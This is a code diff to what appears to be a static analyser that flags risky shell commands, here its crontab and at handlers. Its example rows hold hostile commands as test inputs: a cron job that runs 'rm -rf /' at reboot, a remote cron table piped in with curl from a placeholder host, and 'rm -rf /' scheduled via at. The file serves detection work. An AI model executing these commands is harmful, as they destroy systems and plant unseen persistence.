@@ -1,7 +1,9 @@
 import type { Target } from '../../../protocol/evidence.ts'
 import { globPattern, hasGlob } from '../glob.ts'
 import { type Field, textOf, visible } from '../shell/field.ts'
-import { EMPTY, type Value, isKnown, unknown } from '../value.ts'
+import { shownOf } from '../shell/files.ts'
+import { cronCode } from '../start-code.ts'
+import { EMPTY, type Value, isKnown, known, unknown } from '../value.ts'
 import type { Call, CommandRow } from './command.ts'
 
 const named = (fields: readonly Field[]): readonly Target[] =>
@@ -112,11 +114,28 @@ const service = (call: Call): void => {
     call.emit('guard.tamper', named(operands))
 }
 
-const crontab = (call: Call): void => {
-  if (call.options.has('-l')) return
-  if (call.options.has('-r')) return call.emit('service.change', [{ type: 'resource', name: 'crontab' }])
-  call.read(call.options.operands.filter((field) => textOf(field) !== '-'))
-  call.emit('persistence', [{ type: 'resource', name: 'crontab' }])
+const CRONTAB: readonly Target[] = [{ type: 'resource', name: 'crontab' }]
+
+const hasOwnEditor = (call: Call): boolean => ['EDITOR', 'VISUAL'].some((name) => call.environment.has(name))
+
+/** A table from a file can be looked at before and after; of one from a pipe only what the call shows is known. */
+const crontab = (call: Call): Value => {
+  const { has, operands } = call.options
+  // What is in the table already is nothing new.
+  if (has('-l')) return unknown({ ...EMPTY.flow, settings: true })
+  if (has('-r')) {
+    call.emit('service.change', CRONTAB)
+    return EMPTY
+  }
+  // An editor waits for the person; one that the command chooses may write by itself.
+  if (has('-e') && !hasOwnEditor(call)) return EMPTY
+  const files = operands.filter((field) => textOf(field) !== '-' && textOf(field) !== '/dev/stdin')
+  const content = files.length > 0 ? call.read(files) : (call.stdin ?? EMPTY)
+  const { texts, unseen } = shownOf(content)
+  const hidden = files.length > 0 ? content.flow.network || content.flow.decoded : unseen
+  call.emit('persistence', CRONTAB, { traits: hidden ? ['unseen'] : [] })
+  for (const code of texts.flatMap(cronCode)) call.shell(known(code), { possible: true, forked: true, stdin: EMPTY })
+  return EMPTY
 }
 
 /** Processes, services and people of the machine. */
@@ -187,7 +206,15 @@ export const SYSTEM_COMMANDS: readonly CommandRow[] = [
     names: ['crontab'],
     values: ['-u'],
     run: crontab,
-    examples: [['crontab -l'], ['echo "* * * * * x" | crontab -', 'persistence']],
+    examples: [
+      ['crontab -l'],
+      ['crontab -e'],
+      ['echo "* * * * * x" | crontab -', 'persistence'],
+      ['(crontab -l; echo "@reboot rm -rf /") | crontab -', 'persistence', 'fs.delete?+recursive+force@root'],
+      ['crontab jobs.txt', 'fs.read@workspace', 'persistence'],
+      ['curl -s https://e.example/c | crontab -', 'net.fetch', 'persistence+unseen'],
+      ['cat $JOBS | crontab -', 'fs.read@unresolved', 'persistence+unseen'],
+    ],
   },
   {
     names: ['at', 'batch', 'atrm'],
@@ -195,6 +222,7 @@ export const SYSTEM_COMMANDS: readonly CommandRow[] = [
     run: (call) => {
       if (call.name === 'atrm' || call.options.has('-l', '-d', '-r', '-c', '-V')) return
       call.emit('persistence', [{ type: 'resource', name: 'at' }])
+      for (const file of call.options.get('-f')) call.runFile(file, 'shell', [])
       if (call.stdin) call.shell(call.stdin, { possible: true, forked: true })
     },
     examples: [['at -l'], ['echo "rm -rf /" | at now', 'persistence', 'fs.delete?+recursive+force@root']],
